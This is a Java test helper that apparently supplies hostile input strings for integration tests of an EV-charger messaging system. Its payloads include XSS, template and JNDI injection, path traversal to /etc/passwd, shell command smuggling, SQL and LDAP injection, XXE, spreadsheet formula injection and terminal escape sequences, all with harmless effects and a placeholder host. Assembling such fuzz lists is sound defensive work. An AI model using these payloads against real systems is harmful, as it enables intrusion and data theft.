package org.chargebus.itests;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/**
 * Texts that mean something to somebody between a charger and a reader: a browser, a terminal, a
 * spreadsheet, a shell, a file system, a log. Many are as short as the fields of OCPP 1.6, whose
 * least is 20 characters.
 */
final class HostileTexts {
    /** The name of a file that some of them want. */
    static final String FILE = "chz.cfg";

    /** The variable of a page that a script of theirs would set. */
    static final String FLAG = "h";

    private static final String HOST = "//hostile.invalid/";
    private static final String RUN = "<svg onload=h=1>";

    private final Set<String> texts = new LinkedHashSet<>();

    private HostileTexts() {}

    /** All of them, each once, the same in every run. */
    static List<String> all() {
        HostileTexts all = new HostileTexts();
        all.markup();
        all.templates();
        all.json();
        all.controls();
        all.lines();
        all.paths();
        all.formulas();
        all.characters();
        all.languages();
        all.lengths();
        return List.copyOf(all.texts);
    }

    /** A text as the content of a JSON string, every odd character by its number. */
    static String json(String text) {
        StringBuilder json = new StringBuilder();
        for (char c : text.toCharArray()) {
            boolean plain = c >= ' ' && c <= '~' && c != '"' && c != '\\';
            json.append(plain ? "" + c : String.format("\\u%04x", (int) c));
        }
        return json.toString();
    }

    /** Not longer than a field. */
    static String cut(String text, int length) {
        return text.length() <= length ? text : text.substring(0, length);
    }

    private void add(String... some) {
        texts.addAll(List.of(some));
    }

    private void markup() {
        for (String tag : List.of("img src=x", "svg", "video src", "body", "details open")) {
            for (String event : List.of("load", "error", "focus", "toggle", "click")) {
                add("<" + tag + " on" + event + "=h=1>");
            }
        }
        for (String end :
                List.of("\">", "'>", "`>", "-->", "]]>", "*/", "</p>", "</b>", "</pre>", "</td>")) {
            add(end + RUN);
        }
        for (String end : List.of("title", "style", "script", "textarea", "template", "noscript")) {
            add("</" + end + ">" + RUN);
        }
        add(
                RUN,
                "<script>h=1</script>",
                "<SCRIPT SRC=" + HOST + "></SCRIPT>",
                "<script type=module>import'" + HOST + "'</script>",
                "<style>*{display:none}</style>",
                "<style>@import'" + HOST + "'</style>",
                "<link rel=stylesheet href=" + HOST + ">",
                "<iframe src=" + HOST + ">",
                "<iframe srcdoc='<script>parent.h=1</script>'>",
                "<base href=" + HOST + ">",
                "<meta http-equiv=refresh content=0;url=" + HOST + ">",
                "<object data=" + HOST + ">",
                "<embed src=" + HOST + ">",
                "<img src=" + HOST + ">",
                "<form action=" + HOST + "><input name=password>",
                "<a href=javascript:h=1>x</a>",
                "<math><mtext><script>h=1</script>",
                "<!--#include virtual=/etc/passwd-->",
                "<![CDATA[" + RUN + "]]>",
                "&lt;svg onload=h=1&gt;",
                "&#60;svg/onload=h=1>",
                "\" onmouseover=h=1 x=\"",
                "' autofocus onfocus=h=1 '",
                "javascript:h=1",
                "data:text/html," + RUN,
                "\u00bcscript\u00beh=1\u00bc/script\u00be");
    }

    private void templates() {
        add(
                "{{7*7}}",
                "${7*7}",
                "#{7*7}",
                "*{7*7}",
                "<%=7*7%>",
                "{%7*7%}",
                "[[7*7]]",
                "@(7*7)",
                "{{constructor.constructor('h=1')()}}",
                "${alert`1`}",
                "${jndi:ldap:" + HOST + "a}",
                "${env:PATH}",
                "${sys:user.home}",
                "$[secret:password]");
    }

    private void json() {
        add(
                "__proto__",
                "constructor",
                "prototype",
                "toString",
                "hasOwnProperty",
                "valueOf",
                "{\"__proto__\":{\"h\":1}}",
                "{\"constructor\":{\"prototype\":{\"h\":1}}}",
                "{\"type\":\"script\",\"props\":{\"children\":\"h=1\"},\"key\":null}",
                "{\"dangerouslySetInnerHTML\":{\"__html\":\"" + RUN + "\"}}",
                "\"}],\"h\":[{\"",
                "\",\"h\":\"1",
                "\\",
                "\\\"",
                "\"",
                "'",
                "\\u0022,1",
                "null",
                "undefined",
                "NaN",
                "true",
                "-0",
                "1e999",
                "[object Object]",
                "[]",
                "{}");
    }

    private void controls() {
        for (char c = 0; c < ' '; c++) {
            add("a" + c + "b");
        }
        for (char c : new char[] {0x7f, 0x80, 0x85, 0x90, 0x9b, 0x9c, 0x9d}) {
            add("a" + c + "31mb");
        }
        add(
                "\u001b[31mred",
                "\u001b[2J\u001b[H",
                "\u001b[1A\u001b[2Kover",
                "\u001bc",
                "\u001b]0;title\u0007",
                "\u001b]8;;http:" + HOST + "\u001b\\link\u001b]8;;\u001b\\",
                "\u001b]52;c;aD0x\u0007",
                "\u001bP$q\"p\u001b\\",
                "\u001b[6n",
                "\u001b[?1049h");
    }

    private void lines() {
        add(
                "a\r\nSet-Cookie: h=1",
                "a\r\n\r\n" + RUN,
                "%0d%0aX-Hostile: 1",
                "\nHTTP/1.1 200 OK",
                "\n2026-01-01T00:00:00,000 | ERROR | main | Forged | x | forged",
                "\r2026-01-01 ERROR",
                "x\ndata: {}",
                "x\n\nevent: alarms",
                "x\rid: 1",
                "x\u2028data: {}",
                "x\u2029event: lost",
                "x\u0085data: {}",
                "\n# TYPE h counter\nh 1",
                "\"} 1\nh{a=\"b",
                "\\n\\r\\0");
    }

    private void paths() {
        for (String way :
                List.of(
                        "../",
                        "../../../",
                        "..\\..\\",
                        "%2e%2e%2f",
                        "..%2f..%2f",
                        "..%5c",
                        "..%c0%af",
                        "....//",
                        "..;/",
                        "/tmp/",
                        "C:\\",
                        "file:///tmp/",
                        "~/",
                        "\\\\hostile.invalid\\")) {
            add(way + FILE);
        }
        add(".", "..", "../", "/", "CON", "NUL.cfg", FILE, "../" + FILE + "\u0000.png");
        add("../../etc/users.properties", "/etc/passwd", "/proc/self/environ", "x.jar!/" + FILE);
    }

    private void formulas() {
        for (String start : List.of("=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff20")) {
            add(start + "1+1");
        }
        add(
                "\uff0b1",
                "\uff0d1",
                "=cmd|'/C calc'!A0",
                "=HYPERLINK(\"http:" + HOST + "\")",
                "\",=1+1,\"",
                "\"\n=1+1",
                ";=1+1",
                "+SUM(1;1)");
    }

    private void characters() {
        for (char c :
                new char[] {
                    0x061c, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d,
                    0x202e, 0x2060, 0x2066, 0x2067, 0x2068, 0x2069, 0xfeff, 0xfff9, 0xfffe, 0xffff,
                    0xe000, 0xad, 0x180e, 0x2800
                }) {
            add("a" + c + "gpj.b");
        }
        add(
                "\ud800",
                "\udc00x",
                "\udc00\ud800",
                "a\ud83d",
                "\ud83d\ude00",
                "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67",
                "\udb40\udc41tag",
                "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f",
                "\u0130\u0131\u017f\u212a");
    }

    private void languages() {
        add(
                "'; DROP TABLE tx;--",
                "' OR '1'='1",
                "1) UNION SELECT 1--",
                "$(touch " + FILE + ")",
                "`touch " + FILE + "`",
                "|touch " + FILE,
                ";touch " + FILE,
                "&&touch " + FILE,
                ">" + FILE,
                "$(exec touch a)",
                "$(shell:exec id)",
                "${karaf.home}",
                "-rf /",
                "--help",
                "!!",
                "x' ; exec id ; '",
                "<!DOCTYPE h [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><h>&x;</h>",
                "<?xml version=\"1.0\"?>",
                "<x:include href=\"" + HOST + "\"/>",
                "%s%s%n%x",
                "%1$s%99999d",
                "{}{}{0}",
                "%p%p|%n",
                "(&(uid=*)(h=1))",
                "*)(objectClass=*",
                "(a+)+$",
                "[x](javascript:h=1)",
                "![x](" + HOST + ")",
                "| a | b |",
                "number = 1\nid = X",
                "password = x\\");
    }

    private void lengths() {
        List<String> ends = new ArrayList<>(List.of("x", "\"", "\u20ac", "<", "\u001b["));
        ends.forEach(one -> add(one.repeat(600 / one.length())));
        add(" ".repeat(30) + RUN);
    }
}
